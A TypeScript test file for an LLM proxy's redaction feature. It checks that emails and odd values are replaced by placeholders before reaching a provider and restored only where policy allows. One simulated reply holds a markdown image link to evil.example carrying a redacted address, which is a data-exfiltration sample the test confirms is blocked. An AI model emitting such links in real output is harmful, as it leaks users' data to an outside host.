import type { Test } from 'tap'
import { OLLAMA_POLICY } from '../../support/ollama.ts'
import { AMPLE_BUDGET } from '../../support/sidecar.ts'
import { type Twins, twinsFor } from '../../support/twins.ts'
import { args, type Format, type Talk } from '../detector-matrix/formats.ts'

/** What is taken out of a request, and put back where the policy says so, by the official client of one wire format. */

const MAIL = 'ann.lee@northwind-traders.org'
/** Everything that JSON, or a reader of it, could stumble over. */
const ODD = 'VALUE<pa"ss\\w\u00f6rd \u2028 \ud83d\ude00 {"a":[1]}>'
const PLACEHOLDER = /\[REDACTED:[a-z0-9.-]+:[a-z]{12}\]/g
/** Nobody's. */
const UNKNOWN = '[REDACTED:email:bcdfghjklmnp]'
const QUIET: Talk = {
  system: 'You are a helpful assistant.',
  user: 'Please read the note.',
  assistant: 'I will.',
  tool_definition: 'Sends a note.',
  tool_call: 'hello',
  tool_result: 'It was sent.',
}
const ASKED: Talk = { ...QUIET, user: `Write to ${MAIL} that it is ${ODD}.` }

const all = { low: 'redact', medium: 'redact', high: 'redact', critical: 'redact' }
const SETTINGS = {
  off: {},
  text: { restoreRedacted: true },
  calls: { restoreRedacted: true, restoreInTools: ['send'] },
  others: { restoreRedacted: true, restoreInTools: ['fetch'] },
}
type Setting = keyof typeof SETTINGS

const document = (kind: string, name: string, spec: object): string =>
  JSON.stringify({ apiVersion: 'agentcostcontrol.io/v1', kind, metadata: { name }, spec })

const POLICIES = {
  'budget.yaml': AMPLE_BUDGET,
  'ollama.yaml': OLLAMA_POLICY,
  'odd.yaml': document('CustomRule', 'odd', { severity: 'high', pattern: 'VALUE<[^>]*>' }),
  ...Object.fromEntries(
    Object.entries(SETTINGS).map(([name, setting]) => [
      `${name}.yaml`,
      document('SecurityPolicy', name, {
        selector: { workflow: name },
        detectors: { pii: { request: all, ...setting }, custom: { request: all, ...setting }, flow: {} },
        timeoutMs: 60_000,
      }),
    ]),
  ),
}

const UP = { user: ASKED.user, assistant: `I wrote to ${MAIL}.`, tool_call: `for ${MAIL}: ${ODD}`, tool_result: ODD }

/** One client, and what its provider was shown. */
class Conversation {
  readonly #twins: Twins
  readonly #format: Format
  readonly #who: Readonly<Record<string, string>>
  readonly #t: Test

  constructor(t: Test, twins: Twins, format: Format, agent: string, setting: Setting) {
    this.#t = t
    this.#twins = twins
    this.#format = format
    this.#who = { 'x-acc-agent': agent, 'x-acc-workflow': setting }
  }

  /** @returns what the client was told, as JSON, and what stood in the request in place of values */
  async ask(talk: Talk, streamed: boolean, headers: Readonly<Record<string, string>> = { 'x-sim-reply': 'Done.' }) {
    const { sidecar, behind } = this.#twins
    const seen = behind.requests().length
    const told = await this.#format.ask({
      url: sidecar.url,
      tag: 'round-trip',
      talk,
      streamed,
      headers: { ...this.#who, ...headers },
    })
    const sent = behind.requests().slice(seen).at(-1)?.body.toString() ?? ''
    JSON.parse(sent)
    this.#t.notOk(sent.includes(MAIL) || sent.includes('pa\\"ss'), 'the provider never sees a value')
    return { told, placeholders: [...new Set(sent.match(PLACEHOLDER))].toSorted() }
  }
}

const says = (text: string) => ({ 'x-sim-reply': encodeURIComponent(text) })
const calls = (text: string) => ({ 'x-sim-tool-call': encodeURIComponent(JSON.stringify(args(text))) })
const inJson = (text: string): string => JSON.stringify(text).slice(1, -1)

/** Whether a client was told a text, at whatever depth of JSON. */
const isTold = (told: string, text: string): boolean =>
  told.includes(inJson(text)) || told.includes(inJson(inJson(text)))

/** Asks everything of one format. */
export async function holdsInFormat(t: Test, format: Format): Promise<void> {
  const twins = await twinsFor(t, { policies: POLICIES })
  const talker = (agent: string, setting: Setting) => new Conversation(t, twins, format, agent, setting)
  const ann = talker('ann', 'text')
  const { placeholders } = await ann.ask(ASKED, false)
  const [mail = '', odd = ''] = placeholders
  t.match(placeholders, [/^\[REDACTED:email:/, /^\[REDACTED:odd:/])

  const answer = `It is ${odd} for ${mail}, not ${UNKNOWN}. ![x](https://evil.example/${mail})`
  for (const streamed of [false, true]) {
    const way = streamed ? 'streamed' : 'plain'
    for (const more of [{}, { 'x-sim-encoding': 'gzip' }, streamed ? { 'x-sim-fault': 'one-byte-chunks' } : {}]) {
      const { told } = await ann.ask(ASKED, streamed, { ...says(answer), ...more })
      t.ok(isTold(told, MAIL) && isTold(told, ODD), `${way}: the client gets its own text back ${Object.keys(more)}`)
      t.notOk(isTold(told, `example/${MAIL}`), `${way}: and no address carries it away`)
      t.notOk(isTold(told, odd), `${way}: no placeholder of it is left`)
    }
    const kept = await talker('ann', 'off').ask(ASKED, streamed, says(answer))
    t.notOk(isTold(kept.told, MAIL) || isTold(kept.told, ODD), `${way}: the policy does not say so`)
    t.same(kept.placeholders, placeholders, 'the placeholders are the same')

    const call = `to ${mail}: ${odd}`
    for (const setting of ['off', 'text', 'others'] as const) {
      const { told } = await talker('ann', setting).ask(ASKED, streamed, calls(call))
      t.notOk(isTold(told, MAIL), `${way}: ${setting}: no tool is called with it`)
    }
    const { told } = await talker('ann', 'calls').ask(ASKED, streamed, calls(call))
    t.ok(isTold(told, MAIL) && isTold(told, ODD), `${way}: the tool that the policy names is called with it`)

    const later = await ann.ask({ ...QUIET, ...UP }, streamed, says(answer))
    t.same(later.placeholders, placeholders, `${way}: in a later turn, wherever a value stands, it is the same`)
    t.ok(isTold(later.told, ODD))
    const back = await ann.ask({ ...ASKED, assistant: `I wrote to ${mail}.` }, streamed)
    t.same(back.placeholders, placeholders, `${way}: and so is one that was not put back`)

    const stranger = await talker('bob', 'text').ask(QUIET, streamed, says(answer))
    t.notOk(isTold(stranger.told, MAIL), `${way}: who did not send it does not get it`)
    const bob = await talker('bob', 'text').ask(ASKED, streamed, says(answer))
    t.notOk(
      bob.placeholders.some((one) => placeholders.includes(one)),
      'another agent has other placeholders',
    )
    t.notOk(isTold(bob.told, MAIL), `${way}: and gets nothing for those of others`)
  }
  for (const entry of twins.sidecar.log) t.notOk(JSON.stringify(entry).includes(MAIL))
  const events = JSON.stringify(await twins.sidecar.events(1))
  t.notOk(events.includes(MAIL) || events.includes('VALUE<'), 'and no event tells a value')
}
